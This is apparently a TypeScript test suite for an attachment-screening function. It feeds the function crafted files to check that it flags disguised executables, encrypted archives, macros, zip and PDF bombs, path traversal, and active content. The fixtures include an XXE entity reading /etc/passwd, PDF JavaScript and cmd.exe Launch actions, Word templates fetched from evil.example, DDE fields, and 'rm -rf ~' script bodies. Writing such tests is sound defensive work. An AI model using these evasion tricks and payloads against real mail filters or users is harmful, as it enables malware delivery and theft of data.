import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { gzipSync, type Zippable, zipSync, zlibSync } from "fflate";
import { judgeAttachment } from "./judge_attachment.ts";

type Content = string | Uint8Array;

const bytesOf = (content: Content): Buffer =>
  typeof content === "string" ? Buffer.from(content, "latin1") : Buffer.from(content);

function judge(name: string, contentType: string, content: Content) {
  return judgeAttachment({ name, contentType, contentBase64: bytesOf(content).toString("base64") });
}

interface ZipEntry {
  readonly name: string;
  readonly data?: string;
  readonly flags?: number;
}

/** Writes a ZIP of stored entries; `listed` are those in its central directory, when they differ. */
function zip(entries: readonly ZipEntry[], listed = entries): Buffer {
  const offsets: number[] = [];
  let offset = 0;
  const locals = entries.map(({ name, data = dataOf(name), flags = 0 }) => {
    const header = Buffer.alloc(30);
    const [called, content] = [Buffer.from(name), Buffer.from(data, "latin1")];
    header.write("PK\x03\x04", "latin1");
    header.writeUInt16LE(flags, 6);
    header.writeUInt32LE(content.length, 18);
    header.writeUInt32LE(content.length, 22);
    header.writeUInt16LE(called.length, 26);
    offsets.push(offset);
    offset += 30 + called.length + content.length;
    return Buffer.concat([header, called, content]);
  });
  const centrals = listed.map(({ name, data = dataOf(name), flags = 0 }, index) => {
    const header = Buffer.alloc(46);
    const called = Buffer.from(name);
    header.write("PK\x01\x02", "latin1");
    header.writeUInt16LE(flags, 8);
    header.writeUInt32LE(data.length, 20);
    header.writeUInt32LE(data.length, 24);
    header.writeUInt16LE(called.length, 28);
    header.writeUInt32LE(offsets[index] ?? 0, 42);
    return Buffer.concat([header, called]);
  });
  const [body, central, end] = [Buffer.concat(locals), Buffer.concat(centrals), Buffer.alloc(22)];
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(listed.length, 8);
  end.writeUInt16LE(listed.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, central, end]);
}

function dataOf(name: string): string {
  if (name.endsWith("/")) return "";
  return /\.(?:xml|rels)$/.test(name) ? '<?xml version="1.0"?><a/>' : "Hello";
}

const office = (folder: string, ...more: readonly string[]): Buffer =>
  zip(["[Content_Types].xml", `${folder}/document.xml`, ...more].map((name) => ({ name })));

const wide = (text: string): string => [...text].map((character) => `${character}\0`).join("");
const OLE = `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${"\0".repeat(600)}`;
const PDF = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
const PNG = `\x89PNG\r\n\x1a\n\0\0\0\rIHDR${"\x01\xff".repeat(40)}`;
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

test("judgeAttachment() lets files be that are what they say", async (t) => {
  const files: readonly (readonly [name: string, type: string, content: Content])[] = [
    ["invoice.pdf", "application/pdf", PDF],
    ["invoice.PDF", "application/pdf", `\n\n${PDF}`],
    ["data.csv", "text/csv; charset=utf-8", "a,b\n1,2\n"],
    ["données.csv", "text/csv", Buffer.from("prénom,âge\nZoé,42\n", "latin1")],
    ["data.json", "application/json", '{"a": [1, 2]}'],
    ["notes.md", "text/markdown", "# Notes\n\n*Hello*"],
    ["notes.txt", "text/plain", Buffer.from("\ufeffHello", "utf16le")],
    ["empty.txt", "text/plain", ""],
    ["feed.xml", "text/xml", '<?xml version="1.0"?><a/>'],
    ["page.html", "text/html", "<!DOCTYPE html><p>Hi"],
    ["logo.png", "image/png", PNG],
    ["photo.jpg", "image/jpg", `\xff\xd8\xff\xe0${"\x01\xff".repeat(40)}`],
    ["logo.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'],
    ["offer.docx", DOCX, office("word")],
    ["figures.xlsx", XLSX, office("xl")],
    [
      "offer.odt",
      "application/vnd.oasis.opendocument.text",
      zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text" }, { name: "content.xml" }]),
    ],
    ["old.doc", "application/msword", OLE],
    ["meeting.ics", "text/calendar", "BEGIN:VCALENDAR\r\nVERSION:2.0"],
    ["mail.eml", "message/rfc822", "From: a@x.example\r\nTo: b@x.example\r\n\r\nHi"],
    ["files.zip", "application/zip", zip([{ name: "a.csv" }, { name: "www.example.com/" }])],
    ["letter.rtf", "application/rtf", "{\\rtf1 Hello}"],
  ];
  for (const [name, type, content] of files) {
    await t.test(`${name}, ${type}`, () => {
      const { ok, readable, executable, encrypted, macros, active, unlisted, mismatch } = judge(
        name,
        type,
        content,
      );
      assert.deepEqual(
        { ok, readable, executable, encrypted, macros, active, unlisted, mismatch },
        {
          ok: true,
          readable: true,
          executable: false,
          encrypted: false,
          macros: false,
          active: false,
          unlisted: false,
          mismatch: false,
        },
      );
    });
  }
});

test("judgeAttachment() knows what a computer would run, whatever it is called", async (t) => {
  const harmless = "Hello";
  const names = [
    "a.exe",
    "invoice.pdf.exe",
    "invoice.exe.",
    "invoice.exe . ",
    "INVOICE.EXE",
    "invoice\u202efdp.exe",
    "gnp.\u202eexe.pdf",
    "a.js",
    "a.vbs",
    "a.ps1",
    "a.bat",
    "a.lnk",
    "a.iso",
    "a.scr",
    "a.hta",
    "a.jar",
    "a.msi",
    "a.ｅｘｅ",
    "a．exe",
    "a.e\u200bxe",
    "a.exe\0.pdf",
    "a.exe::$DATA",
    "a.exe:b.txt",
    "a%2Eexe",
    "a.&#101;xe",
    "report.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}",
    'a.exe"',
    "dir/a.exe/",
  ];
  for (const name of names) {
    await t.test(JSON.stringify(name), () =>
      assert.equal(judge(name, "text/plain", harmless).executable, !name.endsWith("/")),
    );
  }
  const contents: Readonly<Record<string, Content>> = {
    "Windows program": `MZ\x90\0\x03${"\0\xff".repeat(60)}`,
    "Windows program in mostly text": `MZ${"A".repeat(1000)}PE\0\0${"text ".repeat(2000)}`,
    ELF: "\x7fELF\x02\x01\x01",
    "Mach-O": "\xcf\xfa\xed\xfe\x07\0\0\x01",
    "universal Mach-O": "\xca\xfe\xba\xbe\0\0\0\x02",
    "Java class": "\xca\xfe\xba\xbe\0\0\0\x41",
    WebAssembly: "\0asm\x01\0\0\0",
    "shell script": "#!/bin/sh\nrm -rf ~",
    "batch file": "\r\n@echo off\r\ndel *",
    "registry file": "Windows Registry Editor Version 5.00",
    shortcut: "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0",
    "internet shortcut": "[InternetShortcut]\nURL=file:///c:/a",
    cabinet: "MSCF\0\0\0\0",
    "disk image": `${"\0".repeat(32_769)}CD001`,
    "macOS disk image": `${"\xff\x01".repeat(600)}koly${"\0".repeat(508)}`,
    "Windows installer": installer(),
    "Java archive": zip([{ name: "META-INF/MANIFEST.MF" }, { name: "A.class" }]),
    "Android package": zip([{ name: "AndroidManifest.xml" }, { name: "classes.dex" }]),
    "archive with a program": zip([{ name: "readme.txt" }, { name: "setup.pdf.exe" }]),
    "archive whose list hides a program": zip([{ name: "setup.exe" }], [{ name: "readme.txt" }]),
    "archive whose headers hide a program": zip([{ name: "readme.txt" }], [{ name: "setup.exe" }]),
    "archive with a macOS program": zip([{ name: "Tool.app/Contents/MacOS/Tool" }]),
    "tar with a program": tar("tools/setup.exe"),
    "gzip of a program": `\x1f\x8b\x08\x08\0\0\0\0\0\x03setup.exe\0${"\xfe\x03".repeat(40)}`,
    "RAR 4 with a program": rar4("setup.exe", 0),
    "RAR 5 with a program": rar5("setup.exe", ""),
  };
  for (const [name, content] of Object.entries(contents)) {
    await t.test(name, () => {
      const { ok, executable } = judge("file", "application/octet-stream", content);
      assert.deepEqual([ok, executable], [false, true]);
    });
  }
});

test("judgeAttachment() knows what needs a password or cannot be listed", async (t) => {
  const locked: Readonly<Record<string, Content>> = {
    ZIP: zip([{ name: "a.txt", flags: 1 }]),
    "ZIP that is locked in its list alone": zip([{ name: "a.txt" }], [{ name: "a.txt", flags: 1 }]),
    "7-Zip with a packed list": `7z\xbc\xaf\x27\x1c\0\x04${"\0".repeat(24)}\x17\x06`,
    "RAR 4 headers": `Rar!\x1a\x07\0\0\0\x73\x80\0\x0d\0${"\0".repeat(20)}`,
    "RAR 4 file": rar4("a.txt", 4),
    "RAR 5 headers": `Rar!\x1a\x07\x01\0\0\0\0\0\x03\x04\0\0${"\0".repeat(9)}`,
    "RAR 5 file": rar5("a.txt", "\x02\x01\0"),
    PDF: PDF.replace("trailer<<", "trailer<</Encrypt 5 0 R"),
    "Office document": `${OLE}${wide("EncryptedPackage")}`,
  };
  for (const [name, content] of Object.entries(locked)) {
    await t.test(name, () =>
      assert.equal(judge("file", "application/octet-stream", content).encrypted, true),
    );
  }
  assert.equal(
    judge("a.7z", "application/x-7z-compressed", `7z\xbc\xaf\x27\x1c\0\x04${"\0".repeat(24)}\x01\x04`)
      .encrypted,
    false,
  );
  assert.equal(judge("a.rar", "application/vnd.rar", rar4("a.txt", 0)).encrypted, false);
  assert.equal(judge("a.rar", "application/vnd.rar", rar5("a.txt", "")).ok, true);
  assert.equal(
    judge("a.pdf", "application/pdf", PDF.replace("Catalog", "Catalog/Title(about /Encrypt keys)")).encrypted,
    false,
  );
});

test("judgeAttachment() notices when label, name and content disagree", async (t) => {
  const files: readonly (readonly [name: string, type: string, content: Content])[] = [
    ["invoice.pdf", "application/pdf", "Hello"],
    ["invoice.pdf", "application/pdf", PNG],
    ["invoice.pdf", "text/csv", "a,b"],
    ["invoice.pdf", "application/octet-stream", PNG],
    ["invoice", "application/pdf", "\x00\x01\x02\xff\xfe"],
    ["data.csv", "text/csv", PDF],
    ["data.csv", "text/csv", "<html><script>alert(1)</script>"],
    ["data.csv", "text/csv", Buffer.from("\ufeff <!-- x --> <SCRIPT>alert(1)")],
    ["data.csv", "text/csv", Buffer.from("\ufeff<script>alert(1)</script>", "utf16le")],
    ["page.html", "text/plain", "Hello"],
    ["logo.svg", "text/xml", '<?xml version="1.0"?><svg/>'],
    ["logo.png", "image/png", "<svg/>"],
    ["offer.docx", DOCX, office("xl")],
    ["offer.docx", DOCX, office("word", "word/vbaProject.bin")],
    ["offer.docx", DOCX, zip([{ name: "a.txt" }])],
    ["offer.doc", "application/msword", "Hello"],
    [
      "picture.gif",
      "image/gif",
      Buffer.concat([Buffer.from("GIF89a\x01\xff\x01\xff", "latin1"), zip([{ name: "a.txt" }])]),
    ],
    ["invoice.pdf", "application/pdf", Buffer.concat([Buffer.from(PDF), zip([{ name: "a.txt" }])])],
  ];
  for (const [name, type, content] of files) {
    await t.test(`${name}, ${type}`, () => {
      const { ok, mismatch } = judge(name, type, content);
      assert.deepEqual([ok, mismatch], [false, true]);
    });
  }
});

const RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const CONTENT_TYPES =
  '<?xml version="1.0"?><Types><Default Extension="xml" ContentType="application/xml"/></Types>';

/** A Word document, with these parts besides. */
function docx(parts: Readonly<Record<string, string | Uint8Array>> = {}): Uint8Array {
  return pack({
    "[Content_Types].xml": CONTENT_TYPES,
    "word/document.xml": "<w:document><w:t>Hello</w:t></w:document>",
    ...parts,
  });
}

const rels = (type: string, target: string, mode = ""): string =>
  `<Relationships><Relationship Id="r1" Type="${RELATIONSHIPS}/${type}" Target="${target}"${mode}/></Relationships>`;
const EXTERNAL = ' TargetMode="External"';

function pack(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const bytes: Zippable = {};
  for (const [name, content] of Object.entries(files)) bytes[name] = bytesOf(content);
  return zipSync(bytes);
}

function odt(content: string, more: Readonly<Record<string, string>> = {}): Uint8Array {
  const type = "application/vnd.oasis.opendocument.text";
  return zipSync({
    mimetype: [bytesOf(type), { level: 0 }],
    "content.xml": bytesOf(content),
    ...Object.fromEntries(Object.entries(more).map(([name, text]) => [name, bytesOf(text)])),
  });
}

const pdf = (objects: string): string => PDF.replace("trailer", `${objects}\ntrailer`);
const flate = (content: string): string => Buffer.from(zlibSync(bytesOf(content))).toString("latin1");
const hex = (data: string): string => Buffer.from(data, "latin1").toString("hex");
const BOMB = "\0".repeat(60_000_000);

function ascii85(data: string): string {
  const bytes = Buffer.from(data, "latin1");
  let text = "";
  for (let at = 0; at < bytes.length; at += 4) {
    const left = Math.min(4, bytes.length - at);
    let value = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(4 - left)]).readUInt32BE();
    let group = "";
    for (let i = 0; i < 5; i++, value = Math.floor(value / 85))
      group = String.fromCharCode(33 + (value % 85)) + group;
    text += group === "!!!!!" && left === 4 ? "z" : group.slice(0, left + 1);
  }
  return `${text}~>`;
}
const stream = (dictionary: string, data: string): string =>
  `9 0 obj<<${dictionary}/Length ${data.length}>>stream\n${data}\nendstream endobj`;
const ACTION = "<</S/JavaScript/JS(app.alert(1))>>";

const OTHER_DANGERS: Readonly<
  Record<string, readonly (readonly [what: string, name: string, type: string, content: Content])[]>
> = {
  active: [
    [
      "SVG with a script",
      "a.svg",
      "image/svg+xml",
      '<?xml version="1.0"?><svg xmlns="x"><script>alert(1)</script></svg>',
    ],
    [
      "SVG with a script under a prefix",
      "a.svg",
      "image/svg+xml",
      '<svg xmlns:a="x"><a:script>alert(1)</a:script></svg>',
    ],
    ["SVG with a handler", "a.svg", "image/svg+xml", '<svg onload="alert(1)"/>'],
    [
      "SVG with an entity",
      "a.svg",
      "image/svg+xml",
      '<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]><svg>&a;</svg>',
    ],
    [
      "SVG in UTF-16",
      "a.svg",
      "image/svg+xml",
      Buffer.from("\ufeff<svg><script>alert(1)</script></svg>", "utf16le"),
    ],
    [
      "SVG with a written-out link",
      "a.svg",
      "image/svg+xml",
      '<svg><a href="java&#115;cript:alert(1)"/></svg>',
    ],
    [
      "SVG that shows another",
      "a.svg",
      "image/svg+xml",
      '<svg><use href="https://evil.example/a.svg#b"/></svg>',
    ],
    [
      "SVG with a style that fetches",
      "a.svg",
      "image/svg+xml",
      "<svg><style>@import 'https://evil.example'</style></svg>",
    ],
    ["SVG with a style sheet", "a.svg", "image/svg+xml", '<?xml-stylesheet href="a.xsl"?><svg/>'],
    [
      "XML with entities",
      "a.xml",
      "application/xml",
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ],
    [
      "XML with entities in UTF-16",
      "a.xml",
      "application/xml",
      Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a>d</a>', "utf16le"),
    ],
    [
      "XML that Excel opens",
      "a.xml",
      "text/xml",
      '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
    ],
    [
      "XML that a browser runs",
      "a.xml",
      "text/xml",
      '<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></a>',
    ],
    ["PDF with a script", "a.pdf", "application/pdf", pdf(`2 0 obj${ACTION}endobj`)],
    [
      "PDF with a script under an escaped name",
      "a.pdf",
      "application/pdf",
      pdf("2 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj"),
    ],
    ["PDF that starts a program", "a.pdf", "application/pdf", pdf("2 0 obj<</S/Launch/F(cmd.exe)>>endobj")],
    [
      "PDF that starts a program, escaped whole",
      "a.pdf",
      "application/pdf",
      pdf("2 0 obj<</S/#4c#61#75#6e#63#68/F(cmd.exe)>>endobj"),
    ],
    [
      "PDF with a packed script",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", flate(`2 0 ${ACTION}`))),
    ],
    [
      "PDF with a packed, escaped script",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Type/ObjStm/N 1/First 4/Filter/Fl", flate("2 0 <</S/#4aavaScript>>"))),
    ],
    [
      "Word with an external template",
      "a.docx",
      DOCX,
      docx({
        "word/_rels/settings.xml.rels": rels("attachedTemplate", "https://evil.example/a.dotm", EXTERNAL),
      }),
    ],
    [
      "Word with a template, in UTF-16",
      "a.docx",
      DOCX,
      docx({
        "word/_rels/a.xml.rels": Buffer.from(
          `\ufeff${rels("attachedTemplate", "https://evil.example/a.dotm", EXTERNAL)}`,
          "utf16le",
        ),
      }),
    ],
    [
      "Word with an OLE package",
      "a.docx",
      DOCX,
      docx({
        "word/_rels/document.xml.rels": rels("oleObject", "embeddings/oleObject1.bin"),
        "word/embeddings/oleObject1.bin": bytesOf(OLE),
      }),
    ],
    [
      "Word with an OLE package that nothing names",
      "a.docx",
      DOCX,
      docx({ "word/media/image1.png": bytesOf(OLE) }),
    ],
    [
      "Word with a picture that is fetched",
      "a.docx",
      DOCX,
      docx({ "word/_rels/document.xml.rels": rels("image", "\\\\evil.example\\a.png", EXTERNAL) }),
    ],
    [
      "Word with a link to a file",
      "a.docx",
      DOCX,
      docx({ "word/_rels/document.xml.rels": rels("hyperlink", "file:///c:/a.exe", EXTERNAL) }),
    ],
    [
      "Word with DDE in pieces",
      "a.docx",
      DOCX,
      docx({
        "word/footer.xml": "<a><w:instrText>D</w:instrText><w:instrText>DE&#65;UTO c:\\cmd</w:instrText></a>",
      }),
    ],
    ["Word with entities", "a.docx", DOCX, docx({ "word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })],
    [
      "OpenDocument with an event",
      "a.odt",
      "application/vnd.oasis.opendocument.text",
      odt('<o><script:event-listener script:language="ooo:script"/></o>'),
    ],
    ["RTF with an object", "a.rtf", "application/rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"],
    ["RTF with a template", "a.rtf", "application/rtf", "{\\rtf1{\\*\\template https://evil.example/a.dot}}"],
  ],
  macros: [
    [
      "Word with macros under another name",
      "a.docx",
      DOCX,
      docx({
        "[Content_Types].xml": CONTENT_TYPES.replace(
          "application/xml",
          "application/vnd.ms-office.vbaProject",
        ),
      }),
    ],
    ["Excel 4 macros", "a.docx", DOCX, docx({ "xl/_rels/workbook.xml.rels": rels("xlMacrosheet", "a.xml") })],
    [
      "OpenDocument with Basic",
      "a.odt",
      "application/vnd.oasis.opendocument.text",
      odt("<o/>", { "Basic/Standard/a.xml": "<a/>" }),
    ],
  ],
  executable: [
    [
      "a program in a ZIP in a ZIP",
      "a.zip",
      "application/zip",
      pack({ "b.zip": pack({ "c.exe": "Hello" }) }),
    ],
    [
      "a program in a ZIP, called a text",
      "a.zip",
      "application/zip",
      pack({ "a.txt": `MZ\x90\0\x03${"\0\xff".repeat(60)}` }),
    ],
    ["a program in gzip, by its stem", "a.exe.gz", "application/gzip", gzipSync(bytesOf("Hello"))],
    [
      "a program in gzip, by its name inside",
      "a.csv.gz",
      "application/gzip",
      gzipSync(bytesOf("Hello"), { filename: "a.exe" }),
    ],
    [
      "a program in gzip, by its content",
      "a.csv.gz",
      "application/gzip",
      gzipSync(bytesOf(`\x7fELF\x02\x01\x01${"\0\xff".repeat(60)}`)),
    ],
    ["a tar with a program, packed", "a.tar.gz", "application/gzip", gzipSync(tar("tools/setup.exe"))],
    [
      "a tar whose long name is a program's",
      "a.tar.gz",
      "application/gzip",
      gzipSync(pax("18 path=setup.exe\n", "a.csv")),
    ],
    ["a remote desktop", "a.rdp", "text/plain", "full address:s:evil.example"],
    ["a web query", "a.iqy", "text/plain", "WEB\n1\nhttps://evil.example"],
    ["an add-in", "a.xlam", XLSX, office("xl")],
    ["a OneNote section", "a.one", "application/octet-stream", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\0\xff\0"],
    [
      "an email with a program",
      "a.eml",
      "message/rfc822",
      'From: a@b.example\r\nSubject: x\r\nContent-Type: a/b; name="a.exe"\r\n\r\nTVqQ',
    ],
  ],
  unlisted: [
    ["ZIP without any list", "a.zip", "application/zip", "PK\x03\x04"],
    [
      "ZIP with more entries than it lists",
      "a.zip",
      "application/zip",
      zip([{ name: "a.csv" }, { name: "b.csv" }], [{ name: "a.csv" }]),
    ],
    [
      "ZIP that lists more than it has",
      "a.zip",
      "application/zip",
      zip([{ name: "a.csv" }], [{ name: "a.csv" }, { name: "b.csv" }]),
    ],
    ["ZIP whose headers differ", "a.zip", "application/zip", zip([{ name: "a.csv" }], [{ name: "b.csv" }])],
    [
      "ZIP with something before it",
      "a.zip",
      "application/zip",
      Buffer.concat([zip([{ name: "a.csv" }]), zip([{ name: "b.csv" }])]),
    ],
    [
      "ZIP with something after it",
      "a.zip",
      "application/zip",
      Buffer.concat([zip([{ name: "a.csv" }]), Buffer.from("more")]),
    ],
    [
      "ZIP with two entries of one name",
      "a.zip",
      "application/zip",
      zip([{ name: "a.csv" }, { name: "A.csv" }]),
    ],
    ["ZIP that leaves its folder", "a.zip", "application/zip", pack({ "../../a.csv": "x" })],
    ["ZIP in ZIP in ZIP in ZIP in ZIP", "a.zip", "application/zip", nested(5)],
    ["ZIP that counts wrong", "a.zip", "application/zip", corrupt(zip([{ name: "a.csv" }]), -12, 2)],
    ["ZIP bomb", "a.zip", "application/zip", pack({ "a.txt": new Uint8Array(120_000_000) })],
    [
      "gzip of several files",
      "a.csv.gz",
      "application/gzip",
      Buffer.concat([gzipSync(bytesOf("one")), gzipSync(bytesOf("two"))]),
    ],
    ["bzip2", "a.txt", "text/plain", "BZh91AY&SY"],
    [
      "PDF with objects packed twice",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", "789c")),
    ],
    [
      "PDF with objects under a predictor",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>", flate("2 0 x"))),
    ],
    [
      "PDF with a file in it",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Type/EmbeddedFile/Filter/FlateDecode", flate("MZ"))),
    ],
    [
      "PDF whose Flate ends early",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Filter/FlateDecode", flate("Hello ".repeat(99)).slice(0, -12))),
    ],
    ["PDF bomb", "a.pdf", "application/pdf", pdf(stream("/Filter/FlateDecode", flate(BOMB)))],
    [
      "PDF bomb in hexadecimal",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Filter[/ASCIIHexDecode/FlateDecode]", `${hex(flate(BOMB))}>`)),
    ],
    [
      "PDF bomb in ASCII85",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Filter[/A85/Fl]", ascii85(flate(BOMB)))),
    ],
    [
      "PDF packed twice",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Filter[/FlateDecode/FlateDecode]", flate(flate(BOMB)))),
    ],
    [
      "PDF packed in an old way",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Filter/LZWDecode", "\x80\x0b\x60")),
    ],
    [
      "PDF whose packing is told elsewhere",
      "a.pdf",
      "application/pdf",
      pdf(stream("/Filter 7 0 R", flate("x"))),
    ],
    ["SVG that is not well-formed", "a.svg", "image/svg+xml", "<svg><g></svg>"],
    ["SVG in an unknown encoding", "a.svg", "image/svg+xml", '<?xml version="1.0" encoding="UTF-7"?><svg/>'],
  ],
  mismatch: [
    ["a type with a second name", "a.csv", 'text/csv; name="report.bat"', "a,b"],
    ["a character set that is not read", "a.csv", "text/csv; charset=utf-7", "a,b"],
    ["an encoded word", "=?utf-8?B?YS5leGU=?=.csv", "text/csv", "a,b"],
    ["an extension of another type", "a.md", "text/csv", "a,b"],
    ["an extension that is not known", "a.xyz", "text/csv", "a,b"],
    ["no extension", "a", "text/csv", "a,b"],
    ["a type that is not known", "a.xyz", "application/x-acme", "a"],
    ["bytes under a name that is not known", "a.xyz", "application/octet-stream", "a"],
    ["an unknown extension in a ZIP", "a.zip", "application/zip", pack({ "a.xyz": "x" })],
    ["HTML called CSV in a ZIP", "a.zip", "application/zip", pack({ "a.csv": "<html><script>1</script>" })],
  ],
  encrypted: [
    [
      "a PDF with an escaped name",
      "a.pdf",
      "application/pdf",
      PDF.replace("trailer<<", "trailer<</#45ncrypt 5 0 R"),
    ],
  ],
};

for (const [danger, files] of Object.entries(OTHER_DANGERS)) {
  test(`judgeAttachment() finds what is ${danger}`, async (t) => {
    for (const [what, name, type, content] of files) {
      await t.test(what, () => {
        const judgement: Readonly<Record<string, unknown>> = { ...judge(name, type, content) };
        assert.deepEqual([judgement.ok, judgement[danger]], [false, true]);
      });
    }
  });
}

test("judgeAttachment() lets documents be as programs write them", async (t) => {
  const xmp = stream("/Type/Metadata/Subtype/XML", "<?xpacket?><x:xmpmeta/>");
  const files: readonly (readonly [name: string, type: string, content: Content])[] = [
    [
      "letter.docx",
      DOCX,
      docx({
        "word/_rels/document.xml.rels": rels("hyperlink", "https://acme.example/a?b=1", EXTERNAL),
        "word/media/image1.png": bytesOf(PNG),
        "word/embeddings/book.xlsx": pack({
          "[Content_Types].xml": CONTENT_TYPES,
          "xl/workbook.xml": "<a/>",
        }),
        "docProps/core.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a>x</a>',
      }),
    ],
    [
      "letter.odt",
      "application/vnd.oasis.opendocument.text",
      odt("<o><office:scripts/><text:a xlink:href='https://a.example'/></o>"),
    ],
    [
      "files.zip",
      "application/zip",
      pack({ "a/b.csv": "x,y", "c.pdf": bytesOf(PDF), "d.zip": pack({ "e.txt": "x" }), README: "x" }),
    ],
    [
      "mac.zip",
      "application/zip",
      pack({ "a.csv": "x", "__MACOSX/._a.csv": bytesOf("\0\x05\x16\x07\0\x02") }),
    ],
    ["data.csv.gz", "application/gzip", gzipSync(bytesOf("a,b"), { filename: "data.csv" })],
    ["data.tar.gz", "application/gzip", gzipSync(tar("a.csv"))],
    ["pax.tar.gz", "application/gzip", gzipSync(pax("18 mtime=1.5\n", "a.csv"))],
    [
      "packed.pdf",
      "application/pdf",
      pdf(`${stream("/Filter/FlateDecode", flate("BT (Hello) Tj ET"))}${xmp}`),
    ],
    [
      "objects.pdf",
      "application/pdf",
      pdf(stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", flate("2 0 <</Type/Font>>"))),
    ],
    [
      "report.pdf",
      "application/pdf",
      pdf(
        stream(
          "/Filter[/ASCII85Decode/FlateDecode]",
          ascii85(flate("BT (Hello, a longer line of it) Tj ET")),
        ),
      ),
    ],
    ["hex.pdf", "application/pdf", pdf(stream("/Filter[/AHx/Fl]", `${hex(flate("BT (Hello) Tj ET"))}>`))],
    [
      "photo.pdf",
      "application/pdf",
      pdf(stream("/Subtype/Image/Filter[/FlateDecode/DCTDecode]", flate("\xff\xd8\xff"))),
    ],
    [
      "invoice.pdf",
      "application/pdf",
      pdf(stream("/Type/EmbeddedFile/Filter/FlateDecode", flate('<?xml version="1.0"?><Invoice/>'))),
    ],
    [
      "logo.svg",
      "image/svg+xml",
      '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd"><svg><style>a{fill:url(#b)}</style><use href="#a"/></svg>',
    ],
    ["data.csv", "text/csv; charset=windows-1252", "a,b"],
  ];
  for (const [name, type, content] of files) {
    await t.test(`${name}, ${type}`, () => assert.deepEqual(dangersOf(judge(name, type, content)), []));
  }
});

function dangersOf(judgement: ReturnType<typeof judge>): readonly string[] {
  return Object.entries(judgement).flatMap(([name, value]) =>
    value === true && !["ok", "readable"].includes(name) ? [name] : [],
  );
}

function nested(depth: number): Uint8Array {
  return pack({ "a.zip": depth === 0 ? pack({ "a.csv": "x" }) : nested(depth - 1) });
}

/** The bytes with another number at a place from the end. */
function corrupt(bytes: Buffer, at: number, value: number): Buffer {
  bytes[bytes.length + at] = value;
  return bytes;
}

test("judgeAttachment() notices macros", () => {
  const docm = "application/vnd.ms-word.document.macroenabled.12";
  const { ok, macros, actual } = judge(
    "a.docm",
    "application/vnd.ms-word.document.macroEnabled.12",
    office("word", "word/vbaProject.bin"),
  );
  assert.deepEqual([ok, macros, actual], [false, true, docm]);
  assert.equal(judge("a.xls", "application/vnd.ms-excel", `${OLE}${wide("_VBA_PROJECT")}`).macros, true);
});

test("judgeAttachment() says so when it cannot read", () => {
  const unreadable = judgeAttachment({
    name: "a.txt",
    contentType: "text/plain",
    contentBase64: "no*base64",
  });
  assert.deepEqual([unreadable.ok, unreadable.readable, unreadable.actual], [false, false, undefined]);
  const huge = judgeAttachment({
    name: "a.txt",
    contentType: "text/plain",
    contentBase64: "QUFB".repeat(11_000_000),
  });
  assert.deepEqual([huge.ok, huge.readable, huge.bytes], [false, false, 33_000_000]);
});

test("judgeAttachment() is total and linear on any bytes", () => {
  const magics = [
    "",
    "PK\x03\x04",
    "PK\x05\x06",
    "Rar!\x1a\x07\0",
    "Rar!\x1a\x07\x01\0",
    "7z\xbc\xaf\x27\x1c",
    "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "%PDF-",
    "\x1f\x8b\x08\x0c",
  ];
  fc.assert(
    fc.property(
      fc.constantFrom(...magics),
      fc.uint8Array({ maxLength: 300 }),
      fc.string({ unit: "binary" }),
      (magic, bytes, name) => {
        judge(name, name, Buffer.concat([Buffer.from(magic, "latin1"), bytes]));
      },
    ),
    { numRuns: 200 },
  );
  for (const magic of magics) {
    for (const filler of [
      "\0",
      "PK\x05\x06",
      "PK\x03\x04",
      "/Encrypt",
      "<!--",
      "E\0n\0",
      "\x74\x00\x00\x07\x00",
    ]) {
      const before = process.cpuUsage();
      judge("a.bin", "application/octet-stream", magic + filler.repeat(100_000 / filler.length));
      assert.ok(process.cpuUsage(before).user < 1_000_000);
    }
  }
});

/** A tar of one file, before which an entry says more of it. */
function pax(said: string, name: string): Buffer {
  const header = tar("PaxHeader");
  header.write(`${said.length.toString(8).padStart(11, "0")}`, 124);
  header.write("x", 156);
  header.write(said, 512);
  return Buffer.concat([header, tar(name)]);
}

function tar(name: string): Buffer {
